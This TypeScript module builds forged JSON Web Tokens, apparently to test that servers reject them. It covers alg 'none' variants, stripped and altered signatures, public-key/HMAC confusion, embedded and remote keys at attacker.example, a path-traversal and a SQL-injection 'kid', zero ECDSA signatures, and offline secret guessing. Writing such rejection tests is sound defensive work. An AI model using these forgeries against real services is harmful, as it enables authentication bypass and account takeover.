/**
 * Forged JWTs, as an attacker writes them: from the bytes of a recorded token and from what the standards let one claim.
 * It shares nothing with the servers, which must refuse all of them.
 */

import { createHmac, generateKeyPairSync, randomBytes, sign } from 'node:crypto'

export interface Forgery {
  /** What was done, in a few words. */
  readonly what: string
  readonly token: string
}

type Members = Readonly<Record<string, unknown>>

/** A token in the right form under a key of the attacker's own. */
export function forgedToken(payload: Members): Forgery {
  return {
    what: 'signed with a key of my own',
    token: signHmac({ alg: 'HS256', typ: 'JWT' }, payload, randomBytes(32)),
  }
}

/** The token with one part changed, each part in turn: header, claims, signature. */
export function tamperedTokens(token: string, changes: Members): readonly Forgery[] {
  const [header, payload, signature] = split(token)
  const flipped = Buffer.from(signature, 'base64url')
  flipped[0] = (flipped[0] ?? 0) ^ 1
  // The last character of 32 bytes holds two bits that mean nothing: a lax decoder takes four texts for one signature.
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
  const last = alphabet[alphabet.indexOf(signature.slice(-1)) ^ 1] ?? 'A'
  return [
    { what: 'header changed', token: `${encode({ ...decode(header), typ: 'jwt' })}.${payload}.${signature}` },
    ...Object.entries(changes).map(([name, value]) => ({
      what: `claim "${name}" changed`,
      token: `${header}.${encode({ ...decode(payload), [name]: value })}.${signature}`,
    })),
    { what: 'signature changed', token: `${header}.${payload}.${flipped.toString('base64url')}` },
    { what: 'signature written otherwise', token: `${header}.${payload}.${signature.slice(0, -1)}${last}` },
    { what: 'padding added', token: `${token}=` },
  ]
}

/** The claims of a token under `alg` none, in all spellings, without signature and with the old one. */
export function algNoneTokens(token: string): readonly Forgery[] {
  const [, payload, signature] = split(token)
  return ['none', 'None', 'NONE', 'nOnE', ''].flatMap((alg) => {
    const header = encode({ alg, typ: 'JWT' })
    return [
      { what: `alg "${alg}", no signature`, token: `${header}.${payload}.` },
      { what: `alg "${alg}", the old signature`, token: `${header}.${payload}.${signature}` },
    ]
  })
}

/** The claims of a token under keys and algorithms that its own header names. */
export function confusedTokens(token: string): readonly Forgery[] {
  const payload = decode(split(token)[1])
  const secret = randomBytes(32)
  const jwk = { kty: 'oct', k: secret.toString('base64url'), alg: 'HS256' }
  const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 })
  const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const publicRsa = rsa.publicKey.export({ format: 'jwk' })
  const publicEc = ec.publicKey.export({ format: 'jwk' })
  const pem = rsa.publicKey.export({ format: 'pem', type: 'spki' })
  const own = (what: string, members: Members, key: Buffer | string = secret): Forgery => ({
    what,
    token: signHmac({ alg: 'HS256', typ: 'JWT', ...members }, payload, key),
  })
  return [
    own('"jwk" holds the secret', { jwk }),
    own('"jku" names a key set', { jku: 'https://attacker.example/jwks.json' }),
    own('"x5u" names a certificate', { x5u: 'https://attacker.example/certificate.pem' }),
    own('"kid" names an empty file', { kid: '../../../../../../dev/null' }, ''),
    own('"kid" is a query', { kid: "x' UNION SELECT 'secret" }, 'secret'),
    own('"crit" asks to skip', { crit: ['b64'], b64: true }),
    own('the empty secret', {}, ''),
    own('a public key as secret', {}, pem),
    { what: 'HS512', token: signHmac({ alg: 'HS512', typ: 'JWT' }, payload, secret, 'sha512') },
    {
      what: 'RS256 with its key in "jwk"',
      token: signWith({ alg: 'RS256', typ: 'JWT', jwk: publicRsa }, payload, (text) =>
        sign('sha256', text, rsa.privateKey),
      ),
    },
    {
      what: 'ES256 with its key in "jwk"',
      token: signWith({ alg: 'ES256', typ: 'JWT', jwk: publicEc }, payload, (text) =>
        sign('sha256', text, { key: ec.privateKey, dsaEncoding: 'ieee-p1363' }),
      ),
    },
    {
      what: 'ES256 with a signature of zeros',
      token: signWith({ alg: 'ES256', typ: 'JWT', jwk: publicEc }, payload, () => Buffer.alloc(64)),
    },
  ]
}

/** The token without its signature, written in each way that a reader might take. */
export function strippedTokens(token: string): readonly Forgery[] {
  const [header, payload] = split(token)
  return [
    { what: 'an empty signature', token: `${header}.${payload}.` },
    { what: 'two parts', token: `${header}.${payload}` },
    { what: 'the claims alone', token: payload },
    { what: 'the claims alone, dotted', token: `.${payload}.` },
  ]
}

/** The secret among these under which the token's signature holds: tried offline, so nobody notices. */
export function guessSecret(token: string, secrets: readonly string[]): string | undefined {
  const [header, payload, signature] = split(token)
  return secrets.find(
    (secret) => createHmac('sha256', secret).update(`${header}.${payload}`).digest('base64url') === signature,
  )
}

/** A token with these claims changed, under a secret that was found. */
export function resignedToken(token: string, secret: string, changes: Members): Forgery {
  const payload = { ...decode(split(token)[1]), ...changes }
  return { what: 'signed with the secret', token: signHmac({ alg: 'HS256', typ: 'JWT' }, payload, secret) }
}

/** What anyone can read in a token. */
export function readPayload(token: string): Members {
  return decode(split(token)[1])
}

function split(token: string): [header: string, payload: string, signature: string] {
  const [header = '', payload = '', signature = ''] = token.split('.')
  return [header, payload, signature]
}

function encode(members: Members): string {
  return Buffer.from(JSON.stringify(members)).toString('base64url')
}

function decode(part: string): Members {
  return JSON.parse(Buffer.from(part, 'base64url').toString()) as Members
}

function signHmac(header: Members, payload: Members, key: Buffer | string, hash = 'sha256'): string {
  return signWith(header, payload, (text) => createHmac(hash, key).update(text).digest())
}

function signWith(header: Members, payload: Members, signText: (text: Buffer) => Buffer): string {
  const text = `${encode(header)}.${encode(payload)}`
  return `${text}.${signText(Buffer.from(text)).toString('base64url')}`
}
